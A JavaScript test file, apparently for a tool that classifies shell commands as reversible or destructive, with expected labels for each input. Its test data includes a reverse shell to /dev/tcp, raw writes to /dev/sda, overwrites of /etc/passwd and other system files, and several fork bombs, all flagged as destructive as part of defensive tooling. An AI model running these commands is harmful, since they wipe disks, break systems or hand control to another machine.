import { describe } from 'vitest';
import { itReads } from './meaning.js';

describe('where output goes, and functions', () => {
  itReads(
    'devices',
    `
echo a > /dev/sda
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ device: Writes to the device /dev/sda.
echo a >> /dev/sda
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ device: Writes to the device /dev/sda.
echo a > /dev/null
  => - | - | - | - | - | - | read none reversible
echo a > /dev/stdout
  => - | - | - | - | - | - | read none reversible
echo a > /dev/stderr
  => - | - | - | - | - | - | read none reversible
echo a > /dev/tty1
  => - | - | - | - | - | - | read none reversible
echo a > /dev/pts/0
  => - | - | - | - | - | - | read none reversible
echo a > /dev/fd/3
  => - | - | - | - | - | - | read none reversible
echo a > /dev/shm/x
  => - | - | - | - | - | - | read none reversible
echo a > /dev/zero
  => - | - | - | - | - | - | read none reversible
echo a > /dev/console
  => - | - | - | - | - | - | read none reversible
echo a > /dev/log
  => - | - | - | - | - | - | read none reversible
echo a > /dev/tcp/db/5432
  => - | - | - | - | - | - | read none reversible
echo a > /dev/udp/db/53
  => - | - | - | - | - | - | read none reversible
bash -i >& /dev/tcp/x/1
  => - | - | - | - | - | - | execute unknown DESTRUCTIVE ~ dynamic-code: Hands its input and output to another machine.
bash -i >& x/dev/tcp/x/1
  => - | - | - | - | - | - | execute unknown
echo a &> /dev/udp/x/1
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ dynamic-code: Hands its input and output to another machine.
cat < /dev/sda
  => - | - | - | - | - | - | read none reversible
`,
  );

  itReads(
    'files of the system',
    String.raw`
echo a > /etc/passwd
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /etc/passwd.
echo a >| /boot/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /boot/x.
echo a > /bin/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /bin/x.
echo a > /sbin/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /sbin/x.
echo a > /usr/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /usr/x.
echo a > /lib/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /lib/x.
echo a > /proc/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /proc/x.
echo a > /sys/x
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /sys/x.
echo a > /srv/x
  => - | - | - | - | - | - | read none reversible
echo a > out/etc/x
  => - | - | - | - | - | - | read none reversible
echo a > $OUT
  => - | - | - | - | - | - | read none reversible
cat <<EOF > /etc/hosts\na\nEOF
  => - | - | - | - | - | - | read none DESTRUCTIVE ~ system-file: Writes over /etc/hosts.
`,
  );

  itReads(
    'functions that start themselves',
    `
:(){ :|:& };:
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ fork-bomb: A function that starts itself. ~ unknown-tool: Not known here: :.
f(){ f|f& };f
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ fork-bomb: A function that starts itself. ~ unknown-tool: Not known here: f.
f(){ f | f & }; f
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ fork-bomb: A function that starts itself. ~ unknown-tool: Not known here: f.
f(){ ls; }; f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: f.
f(){ f; }; f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: f.
f(){ g|f; }; f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: g. ~ unknown-tool: Not known here: f.
f.g(){ f.g|f.g& };f.g
  => - | - | - | - | - | - | unknown unknown DESTRUCTIVE ~ fork-bomb: A function that starts itself. ~ unknown-tool: Not known here: f.g.
f(){ xf|f; }; f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: xf. ~ unknown-tool: Not known here: f.
f(){ f|fx; }; f
  => - | - | - | - | - | - | unknown unknown ~ unknown-tool: Not known here: f. ~ unknown-tool: Not known here: fx.
`,
  );
});
